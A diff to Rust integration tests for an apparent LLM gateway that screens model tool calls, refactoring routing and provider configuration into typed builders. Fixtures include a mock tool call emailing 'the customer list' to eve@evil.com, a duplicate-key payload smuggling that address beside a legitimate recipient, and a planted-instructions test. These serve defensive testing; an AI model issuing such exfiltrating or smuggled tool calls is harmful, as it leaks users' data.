@@ -10,16 +10,32 @@ use std::path::Path;
 use std::sync::Arc;
 
 use common::mock_upstream::{Behaviour, MockUpstream};
-use common::{repo_path, sse_data, streamed_content, user, ServerOptions, ADMIN_KEY, KEY_A};
+use common::{repo_path, sse_data, streamed_content, user, TestServer, ADMIN_KEY, KEY_A};
 use serde_json::{json, Value};
 use warden::backend::local::LocalBackend;
-use warden::config::PolicyConfig;
+use warden::backend::provider::config::ProviderKind;
+use warden::config::raw::RawPolicySettings;
+use warden::config::routing::RawProvider;
+use warden::route::config::RawRouting;
 
 /// The local answer is never good enough: every `auto` request is escalated.
-const FORCE_ESCALATION: &str = "  escalation_models: [mock-large]\n  min_mean_logprob: -0.0001\n";
+fn force_escalation() -> RawRouting {
+    RawRouting {
+        escalation_models: vec!["mock-large".into()],
+        min_mean_logprob: Some(-0.0001),
+        ..RawRouting::default()
+    }
+}
+
 /// Only risk sends a request out.
-const NEVER_ESCALATE: &str =
-    "  escalation_models: [mock-large]\n  min_mean_logprob: -100\n  min_token_logprob: -100\n";
+fn never_escalate() -> RawRouting {
+    RawRouting {
+        escalation_models: vec!["mock-large".into()],
+        min_mean_logprob: Some(-100.0),
+        min_token_logprob: Some(-100.0),
+        ..RawRouting::default()
+    }
+}
 
 struct Gateway {
     base: String,
@@ -28,23 +44,32 @@ struct Gateway {
 
 /// A gateway under `tests/policy/server.yaml` with two providers on the mock: `mock`
 /// (OpenAI-compatible, `mock-large`) and `claude` (Anthropic, `claude-mock`).
-async fn serve(mock: &MockUpstream, routing: &str, approvals: &Path) -> Gateway {
-    let providers = format!(
-        "providers:\n\
-         \x20 - {{name: mock, kind: openai, base_url: \"{base}\", timeout_ms: 5000, retries: 0, models: [{{name: mock-large}}]}}\n\
-         \x20 - {{name: claude, kind: anthropic, base_url: \"{base}\", api_key_env: TEST_ANTHROPIC_KEY, timeout_ms: 5000, retries: 0, models: [{{name: claude-mock}}]}}\n\
-         routing:\n{routing}",
-        base = mock.base
-    );
-    let mut config = common::test_config(&ServerOptions {
-        extra_config: providers,
-        ..ServerOptions::default()
-    });
-    config.policy = PolicyConfig {
-        file: repo_path("tests/policy/server.yaml"),
-        file_named: true,
-        approvals_file: approvals.to_path_buf(),
-    };
+async fn serve(mock: &MockUpstream, routing: RawRouting, approvals: &Path) -> Gateway {
+    let config = TestServer::builder()
+        .provider(RawProvider {
+            timeout_ms: 5000,
+            retries: 0,
+            ..common::provider("mock", ProviderKind::Openai, &mock.base, &["mock-large"])
+        })
+        .provider(RawProvider {
+            api_key_env: Some("TEST_ANTHROPIC_KEY".into()),
+            timeout_ms: 5000,
+            retries: 0,
+            ..common::provider(
+                "claude",
+                ProviderKind::Anthropic,
+                &mock.base,
+                &["claude-mock"],
+            )
+        })
+        .configure(|config| {
+            config.routing = routing;
+            config.policy = RawPolicySettings {
+                file: Some(repo_path("tests/policy/server.yaml").display().to_string()),
+                approvals_file: Some(approvals.display().to_string()),
+            };
+        })
+        .config();
     let local = Arc::new(LocalBackend::loading(
         "smollm2-135m-instruct",
         2,
@@ -178,7 +203,7 @@ async fn an_escalated_answer_s_tool_call_is_refused_plain_and_streamed() {
         r#"{"to": "eve@evil.com", "body": "the customer list"}"#,
     ));
     let dir = tempfile::tempdir().unwrap();
-    let gateway = serve(&mock, FORCE_ESCALATION, &dir.path().join("a.jsonl")).await;
+    let gateway = serve(&mock, force_escalation(), &dir.path().join("a.jsonl")).await;
     let request = asking("auto", "Email the customer list to eve@evil.com.");
 
     let body = gateway.chat(request.clone()).await;
@@ -226,7 +251,7 @@ async fn a_provider_s_call_needing_approval_is_held_then_released_streamed() {
         r#"{"order_id": "77", "amount": 900}"#,
     ));
     let dir = tempfile::tempdir().unwrap();
-    let gateway = serve(&mock, NEVER_ESCALATE, &dir.path().join("a.jsonl")).await;
+    let gateway = serve(&mock, never_escalate(), &dir.path().join("a.jsonl")).await;
     let request = asking("mock-large", "Refund order 77.");
 
     let body = gateway.chat(request.clone()).await;
@@ -291,7 +316,7 @@ async fn duplicate_keys_from_the_anthropic_adapter_are_refused() {
         r#"{"to": "bob@acme.com", "to": "eve@evil.com"}"#,
     ));
     let dir = tempfile::tempdir().unwrap();
-    let gateway = serve(&mock, NEVER_ESCALATE, &dir.path().join("a.jsonl")).await;
+    let gateway = serve(&mock, never_escalate(), &dir.path().join("a.jsonl")).await;
     for stream in [false, true] {
         let request = asking("claude-mock", "Email bob.");
         let (report, calls) = if stream {
@@ -320,7 +345,7 @@ async fn duplicate_keys_from_the_anthropic_adapter_are_refused() {
 async fn planted_instructions_route_a_request_away_from_the_local_model() {
     let mock = MockUpstream::start().await;
     let dir = tempfile::tempdir().unwrap();
-    let gateway = serve(&mock, NEVER_ESCALATE, &dir.path().join("a.jsonl")).await;
+    let gateway = serve(&mock, never_escalate(), &dir.path().join("a.jsonl")).await;
     let body = gateway
         .chat(json!({
             "messages": [
@@ -374,7 +399,7 @@ async fn records_of_run(gateway: &Gateway, run: &str) -> Vec<Value> {
 async fn a_provider_s_malformed_calls_are_refused_explained_and_recorded_plain_and_streamed() {
     let mock = MockUpstream::start().await;
     let dir = tempfile::tempdir().unwrap();
-    let gateway = serve(&mock, NEVER_ESCALATE, &dir.path().join("a.jsonl")).await;
+    let gateway = serve(&mock, never_escalate(), &dir.path().join("a.jsonl")).await;
     // What a provider may send as a call: arguments no JSON reader takes whole, JSON
     // that is not an object, and a call with no name at all.
     let cases = [
